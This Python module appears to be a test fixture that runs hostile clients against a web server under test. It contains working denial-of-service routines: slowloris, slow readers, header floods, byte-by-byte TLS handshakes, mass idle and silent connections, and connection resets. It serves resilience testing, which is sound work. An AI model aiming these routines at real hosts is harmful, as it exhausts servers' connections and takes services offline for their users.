# SPDX-License-Identifier: MIT
"""Peers who mean harm. Each attack is a function of the host and of a file of its certificate's authority, that runs until
its process is ended; attack() runs one in a process of its own, so that it does not slow down the client beside it."""
import contextlib
import itertools
import multiprocessing
import os
import resource
import socket
import ssl
import struct
import time

RESET = struct.pack("ii", 1, 0)  # SO_LINGER of no seconds: close(2) sends RST.
REQUEST = b"GET /page.txt HTTP/1.1\r\nHost: a\r\n\r\n"
LARGE = b"GET /large.bin HTTP/1.1\r\nHost: a\r\n\r\n"


def _connections(host, count, port=80, receive_bytes=None):
    made = []
    for _ in range(count):
        peer = socket.socket()
        if receive_bytes:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        peer.settimeout(20)
        peer.connect((host, port))
        peer.setblocking(False)
        made.append(peer)
    return made


def _drip(peers, part, ready, again):
    """Each peer sends `part` once a second; `again` makes a peer in the place of one that was closed."""
    ready()
    while True:
        for at, peer in enumerate(peers):
            try:
                peer.send(part)
                if not peer.recv(65536):
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                peers[at] = again()
        time.sleep(1)


def slow_heads(host, ready):
    """A thousand requests whose heads never end (slowloris)."""
    def again():
        (peer,) = _connections(host, 1)
        with contextlib.suppress(OSError):
            peer.send(b"GET / HTTP/1.1\r\nHost: a\r\n")
        return peer

    _drip([again() for _ in range(1000)], b"x", ready, again)


def slow_readers(host, ready):
    """Three hundred answers of a megabyte, of which a few bytes a second are taken."""
    peers = _connections(host, 300, receive_bytes=2048)
    for peer in peers:
        peer.send(LARGE)
    ready()
    while True:
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.recv(16)
        time.sleep(0.5)


def header_floods(host, ready):
    """Heads of endless fields, one connection after the other, without a pause."""
    flood = b"GET / HTTP/1.1\r\n" + b"X-A: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\r\n" * 1000
    ready()
    while True:
        with contextlib.suppress(OSError), contextlib.closing(socket.create_connection((host, 80), 20)) as peer:
            peer.sendall(flood)
            peer.recv(65536)


def dripping_handshakes(host, ready):
    """Two hundred TLS handshakes, byte by byte."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="example.org")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()
    peers = {peer: 0 for peer in _connections(host, 200, port=443)}
    ready()
    while True:
        for peer, sent in list(peers.items()):
            try:
                peer.send(hello[sent:sent + 1] or b"\0")
                peers[peer] += 1
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                del peers[peer]
                peers[_connections(host, 1, port=443)[0]] = 0
        time.sleep(0.1)


def silent_peers(host, ready):
    """Two thousand connections, to both ports, that say nothing, and come again when they are closed."""
    peers = _connections(host, 1000) + _connections(host, 1000, port=443)
    _drip(peers, b"", ready, lambda: _connections(host, 1)[0])


def resets(host, ready):
    """Requests whose connection is reset before the answer, without a pause."""
    ready()
    while True:
        with contextlib.suppress(OSError):
            peer = socket.create_connection((host, 80), 20)
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            peer.send(REQUEST)
            peer.close()


def ten_thousand_idle(host, ready):
    """Ten thousand connections that were served once."""
    peers = _connections(host, 10_000)
    for peer in peers:
        peer.send(REQUEST)
    ready()
    while True:
        time.sleep(1)


ATTACKS = (slow_heads, slow_readers, header_floods, dripping_handshakes, silent_peers, resets)


@contextlib.contextmanager
def attack(how, host):
    """It is under way between `with` and its end."""
    started = multiprocessing.Event()

    def run():
        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        os.nice(5)
        how(host, started.set)

    process = multiprocessing.get_context("fork").Process(target=run, daemon=True)
    process.start()
    try:
        for _ in itertools.repeat(None, 600):
            assert process.is_alive(), f"{how.__name__} has ended"
            if started.wait(0.1):
                break
        else:
            raise AssertionError(f"{how.__name__} did not get under way")
        yield
        assert process.is_alive(), f"{how.__name__} has ended"
    finally:
        process.kill()
        process.join(20)
